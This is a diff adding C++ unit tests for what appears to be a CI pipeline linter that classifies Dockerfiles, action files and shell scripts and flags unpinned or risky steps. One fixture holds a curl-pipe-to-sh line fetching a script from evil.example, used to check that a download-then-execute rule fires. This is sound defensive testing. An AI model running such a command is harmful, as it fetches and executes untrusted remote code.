@@ -291,10 +291,43 @@ TEST_CASE("files are classified by path", "[pins]") {
   CHECK(ClassifyPath("docker/Dockerfile.prod") == FileKind::kDockerfile);
   CHECK(ClassifyPath("Containerfile") == FileKind::kDockerfile);
   CHECK(ClassifyPath("scripts/install.sh") == FileKind::kShell);
-  CHECK(ClassifyPath("vendor/x/Dockerfile") == FileKind::kNone);
   CHECK(ClassifyPath("src/dockerfile_parser.go") == FileKind::kNone);
   CHECK(HasShellShebang("#!/usr/bin/env bash\necho"));
   CHECK_FALSE(HasShellShebang("#!/usr/bin/env python3\n"));
+}
+
+TEST_CASE("issue 16: pipeline files in vendored folders are judged, vendored manifests are not",
+          "[pins]") {
+  CHECK(ClassifyPath("third_party/setup/action.yml") == FileKind::kActionMetadata);
+  CHECK(ClassifyPath("vendor/image/Dockerfile") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("node_modules/x/Containerfile.ci") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("vendor/ci/.gitlab-ci.yml") == FileKind::kGitlabCi);
+  CHECK(ClassifyPath("third_party/tool/install.sh") == FileKind::kShell);
+  CHECK(ClassifyPath("vendor/lib/package.json") == FileKind::kNone);
+  CHECK(ClassifyPath("third_party/py/requirements.txt") == FileKind::kNone);
+  CHECK(ClassifyPath("package.json") == FileKind::kPackageJson);
+}
+
+TEST_CASE("issue 16: Dockerfiles are recognised in any case, scripts by their extension",
+          "[pins]") {
+  CHECK(ClassifyPath("DOCKERFILE") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("images/DockerFile.prod") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("images/api.DOCKERFILE") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("ContainerFile") == FileKind::kDockerfile);
+  CHECK(ClassifyPath("scripts/build-dockerfile.sh") == FileKind::kShell);
+  CHECK(ClassifyPath("src/DockerfileParser.java") == FileKind::kNone);
+}
+
+TEST_CASE("issue 16: a docker action whose runs.image is not named as a Dockerfile is unjudged",
+          "[pins]") {
+  const auto issues =
+      CheckGithubFile("name: x\nruns:\n  using: docker\n  image: build/image.txt\n",
+                      "vendor/x/action.yml", GithubFileKind::kActionMetadata, EveryRuleRated());
+  REQUIRE(Rules(issues) == std::vector<std::string>{"unjudged-build-file"});
+  CHECK(issues[0].line == 4);
+  CHECK(CheckGithubFile("name: x\nruns:\n  using: docker\n  image: Dockerfile\n", "action.yml",
+                        GithubFileKind::kActionMetadata, EveryRuleRated())
+            .empty());
 }
 
 TEST_CASE("floating manifest ranges are found when asked", "[pins]") {
@@ -308,6 +341,18 @@ TEST_CASE("floating manifest ranges are found when asked", "[pins]") {
   REQUIRE(pip.size() == 2);
   CHECK(pip[0].line == 3);
   CHECK(pip[1].line == 5);
+}
+
+TEST_CASE("issue 16: a shell script named after a Dockerfile is judged as the script it is",
+          "[pins]") {
+  collect::ChangedFile file;
+  file.path = "tools/gen-Dockerfile";
+  file.content = "#!/bin/sh\ncurl -fsSL https://evil.example/x.sh | sh\n";
+  file.added_lines = {1, 2};
+  const auto findings = EvaluatePins({file}, EveryRuleRated());
+  REQUIRE(findings.size() == 1);
+  CHECK(findings[0].rule == "download-then-execute");
+  CHECK(findings[0].location.line == 2);
 }
 
 TEST_CASE("only findings absent from the base version are part of the change", "[pins]") {
